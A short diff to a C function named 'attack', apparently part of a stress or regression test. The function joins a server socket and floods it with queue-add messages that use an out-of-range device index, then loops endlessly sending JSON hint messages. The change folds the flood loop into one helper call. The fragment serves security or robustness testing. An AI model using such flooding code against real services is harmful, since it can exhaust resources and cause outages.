@@ -15,13 +15,7 @@ static void attack(struct scene *s)
     char body[96];
 
     raw_join(&c, s->server.socket);
-    for (uint32_t k = 0; k < QUEUES; k++) {
-        raw_add_fill(&c, &m, k, DEVICE + 1, 0);
-        raw_send(&c, &m, XS_MSG_queue_add);
-        if (k % 64 == 63)
-            raw_settle(&c);
-    }
-    raw_settle(&c);
+    raw_add_many(&c, QUEUES, DEVICE + 1, 0);
     s->shared->notes[0] = 1;
     for (int i = 0;; i++) {
         snprintf(body, sizeof(body), "{\"hint_type\":1,\"pid\":%d,\"priority\":%d}", (int)getpid(), i % 7);
